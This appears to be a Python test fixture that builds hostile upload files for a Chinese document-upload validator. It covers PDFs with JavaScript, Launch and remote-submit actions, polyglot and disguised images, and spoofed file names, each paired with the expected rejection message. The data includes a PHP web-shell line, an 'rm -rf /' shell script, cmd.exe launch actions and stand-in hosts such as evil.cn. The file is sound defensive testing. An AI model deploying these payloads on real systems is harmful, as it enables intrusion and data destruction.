"""Hostile files, made by code: (id, file name, bytes, accepted kinds, fragment of the expected sentence)."""

from tests.casework.uploads import pdfs, pictures
from tests.casework.uploads.hostile_offices import EXCEL, EXE, HTML, OLE, WORD, ofd_files, office_parts, zip_shapes
from tests.casework.uploads.offices import office, zipped

PDF, IMAGE = ("pdf",), ("jpg", "png")
PHP = b"<?php system($_GET['c']); ?>"
NOT_PDF, NOT_PNG, NOT_JPG = (f"的内容不是{x}" for x in ("PDF", "PNG", "JPG"))
BROKEN, NAME = "打不开", "文件名里有不能使用的字符"
JS = b"/S /JavaScript /JS (app.alert\\(1\\))"


def hostile_files():
    """All of them."""
    return [*pdf_actions(), *pdf_shapes(), *office_parts(), *zip_shapes(), *ofd_files(), *images(), *names()]


def pdf_actions():
    """PDF files that act by themselves or carry something."""
    carried = (pdfs.stream(EXE, b"/Type /EmbeddedFile"), b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>")
    untyped = (pdfs.stream(EXE), carried[1])
    tree = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    script = pdfs.pdf(b"/OpenAction 5 0 R", extra=[b"<< %s >>" % JS])
    cases = [
        ("javascript-open", pdfs.pdf(b"/OpenAction << %s >>" % JS), "脚本"),
        ("javascript-indirect", script, "脚本"),
        ("javascript-names", pdfs.pdf(b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % JS), "脚本"),
        ("javascript-page", pdfs.pdf(page=b"/AA << /O << %s >> >>" % JS), "脚本"),
        ("javascript-link", pdfs.acting(JS), "脚本"),
        ("javascript-next", pdfs.acting(b"/S /URI /URI (https://a.cn) /Next << %s >>" % JS), "脚本"),
        ("javascript-escaped", pdfs.acting(b"/S /J#61va#53cript /J#53 (1)"), "脚本"),
        ("javascript-stream", pdfs.acting(b"/S /JavaScript /JS 5 0 R", [pdfs.stream(b"app.alert(1)")]), "脚本"),
        ("javascript-packed", pdfs.packed(script), "脚本"),
        (
            "javascript-update",
            pdfs.appended(pdfs.pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % JS),
            "脚本",
        ),
        ("javascript-field", pdfs.annotated(b"/Subtype /Widget /FT /Tx /T (a) /AA << /K << %s >> >>" % JS), "脚本"),
        ("launch", pdfs.acting(b"/S /Launch /F (cmd.exe)"), "启动程序"),
        ("launch-open", pdfs.pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"), "启动程序"),
        ("launch-packed", pdfs.packed(pdfs.acting(b"/S /Launch /F (cmd.exe)")), "启动程序"),
        ("embedded", pdfs.pdf(tree, extra=carried), "嵌入的附件"),
        ("embedded-packed", pdfs.packed(pdfs.pdf(tree, extra=carried)), "嵌入的附件"),
        ("embedded-untyped", pdfs.annotated(b"/Subtype /FileAttachment /FS 6 0 R", untyped), "嵌入的附件"),
        ("embedded-associated", pdfs.pdf(b"/AF [6 0 R]", extra=untyped), "嵌入的附件"),
        ("richmedia", pdfs.annotated(b"/Subtype /RichMedia /RichMediaContent << >>"), "多媒体"),
        ("rendition", pdfs.annotated(b"/Subtype /Screen /A << /S /Rendition /OP 0 >>"), "多媒体"),
        ("three-d", pdfs.annotated(b"/Subtype /3D /3DD 5 0 R", [pdfs.stream(b"U3D", b"/Type /3D")]), "多媒体"),
        ("movie", pdfs.annotated(b"/Subtype /Movie /Movie << /F (a.avi) >>"), "影片"),
        ("sound", pdfs.acting(b"/S /Sound /Sound 5 0 R", [pdfs.stream(b"\0", b"/Type /Sound")]), "声音"),
        ("xfa", pdfs.pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[pdfs.stream(b"<xdp/>")]), "动态表单"),
        ("go-to-remote", pdfs.acting(b"/S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit]"), "跳转到别的文件"),
        ("go-to-embedded", pdfs.acting(b"/S /GoToE /T << /R /C /N (a) >>"), "跳转到附件"),
        ("submit", pdfs.acting(b"/S /SubmitForm /F << /FS /URL /F (https://evil.cn) >>"), "向外提交的表单"),
        ("import", pdfs.acting(b"/S /ImportData /F (a.fdf)"), "导入数据"),
        ("uri-javascript", pdfs.acting(b"/S /URI /URI (JavaScript:alert\\(1\\))"), "不安全的链接"),
        ("uri-file", pdfs.acting(b"/S /URI /URI (file://evil/share/a.exe)"), "不安全的链接"),
        ("nested", pdfs.pdf(b"/X " + b"<< /X " * 90 + b"<< %s >>" % JS + b" >>" * 90), "过深的结构"),
    ]
    return [(f"pdf-{case}", "章程.pdf", data, PDF, said) for case, data, said in cases]


def pdf_shapes():
    """PDF files that are locked, damaged, too long, or something else under a PDF's name."""
    plain = pdfs.pdf()
    cases = [
        ("locked", pdfs.locked(plain, "secret"), "加了密码"),
        ("locked-owner", pdfs.locked(plain), "加了密码"),
        ("truncated", pdfs.pdf(pages=60)[:2600], "不完整"),
        ("no-end", plain.replace(b"%%EOF", b""), "不完整"),
        ("junk-before", b"\r\njunk\n" + plain, NOT_PDF),
        ("mark-before", b"\xef\xbb\xbf" + plain, NOT_PDF),
        ("501-pages", pdfs.pdf(pages=501), "有501页，超过500页"),
        ("no-pages", pdfs.pdf(pages=0), "没有页面"),
        ("only-head", b"%PDF-1.7\n%%EOF\n", BROKEN),
        ("garbage", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", BROKEN),
        ("html", HTML, NOT_PDF),
        ("svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", NOT_PDF),
        ("exe", EXE, NOT_PDF),
        ("php", PHP, NOT_PDF),
        ("js", b"require('child_process').exec('calc')", NOT_PDF),
        ("shell", b"#!/bin/sh\nrm -rf /\n", NOT_PDF),
        ("zip-as", office("docx"), NOT_PDF),
        ("png-as", pictures.png(), NOT_PDF),
        ("exe-polyglot", EXE + plain, NOT_PDF),
        ("html-polyglot", HTML + plain, NOT_PDF),
        ("zip-behind", plain + zipped([("a.exe", EXE)]), "夹带"),
        ("zip-behind-end", plain + zipped([("a.exe", EXE)]) + b"%%EOF", "夹带"),
        ("html-behind", plain + HTML, "夹带"),
        ("php-behind", plain + PHP * 200, "不完整"),
    ]
    return [(f"pdf-{case}", "章程.pdf", data, PDF, said) for case, data, said in cases]


def images():
    """Pictures that are too large, cut off, moving, or no pictures at all."""
    photo, drawing = pictures.jpg(size=(800, 600)), pictures.png(size=(800, 600))
    cases = [
        ("huge-claim", "png", pictures.claimed(30000, 30000), "像素太多"),
        ("huge", "png", pictures.png("1", (7000, 6000)), "像素太多"),
        ("huge-jpg", "jpg", pictures.jpg("L", (8000, 6000)), "像素太多"),
        ("truncated", "jpg", photo[: len(photo) // 2], BROKEN),
        ("truncated-png", "png", drawing[: len(drawing) // 2], BROKEN),
        ("short", "png", pictures.claimed(400, 400), BROKEN),
        ("only-head", "jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, BROKEN),
        ("animated", "png", pictures.moving(), "是动画"),
        ("gif", "png", pictures.moving("GIF"), NOT_PNG),
        ("bmp", "jpg", pictures.written(pictures.drawn(), "BMP"), NOT_JPG),
        ("webp", "jpg", pictures.written(pictures.drawn(), "WEBP"), NOT_JPG),
        ("html", "png", HTML, NOT_PNG),
        ("php", "jpg", PHP, NOT_JPG),
        ("php-magic", "jpg", b"\xff\xd8\xff" + PHP, BROKEN),
        ("gif-php", "jpg", b"GIF89a" + PHP, NOT_JPG),
        ("png-as-jpg", "jpg", drawing, NOT_JPG),
        ("jpg-as-png", "png", photo, NOT_PNG),
        ("exe", "png", EXE, NOT_PNG),
        ("svg", "png", b"<svg onload='alert(1)'/>", NOT_PNG),
        ("php-before", "jpg", PHP + photo, NOT_JPG),
    ]
    return [(f"image-{case}", f"照片.{kind}", data, IMAGE, said) for case, kind, data, said in cases]


def names():
    """Good bytes under bad names, and files that are empty."""
    plain = pdfs.pdf()
    program, old = "像是程序文件", "是旧格式"
    cases = [
        ("rtl", "章程\u202efdp.pdf", NAME), ("zero-width", "章\u200b程.pdf", NAME), ("path", "../../章程.pdf", NAME),
        ("windows-path", "C:\\章程.pdf", NAME), ("nul", "章程.pdf\0.exe", NAME), ("newline", "章程\n.pdf", NAME),
        ("c1", "章\x85程.pdf", NAME), ("line-separator", "章\u2028程.pdf", NAME), ("surrogate", "章\udc80程.pdf", NAME),
        ("hidden", ".章程.pdf", NAME), ("long", "章" * 147 + ".pdf", NAME),
        ("double", "章程.exe.pdf", program), ("double-php", "章程.PHP.pdf", program), ("program", "章程.pdf.exe", program),
        ("double-spaces", "章程.exe                .pdf", program),
        ("js", "a.js", program), ("no-extension", "章程", "没有扩展名"), ("only-extension", " .pdf", "没有扩展名"),
        ("dot-end", "章程.pdf.", "格式不在可以上传的范围内"), ("html", "章程.html", "格式不在可以上传的范围内"),
        ("svg", "章程.svg", "格式不在可以上传的范围内"), ("docm", "章程.docm", "格式不在可以上传的范围内"),
        ("zip", "章程.zip", "格式不在可以上传的范围内"), ("not-accepted", "章程.png", "请保存为PDF后再上传"),
    ]  # fmt: skip
    found = [(f"name-{case}", name, plain, PDF, said) for case, name, said in cases]
    return [
        *found,
        ("old-doc", "章程.doc", OLE, WORD, old),
        ("old-xls", "名单.XLS", OLE, EXCEL, old),
        ("old-wps", "章程.wps", OLE, WORD, old),
        ("empty-pdf", "章程.pdf", b"", PDF, "是空的"),
        ("empty-docx", "章程.docx", b"", WORD, "是空的"),
        ("empty-png", "照片.png", b"", IMAGE, "是空的"),
    ]
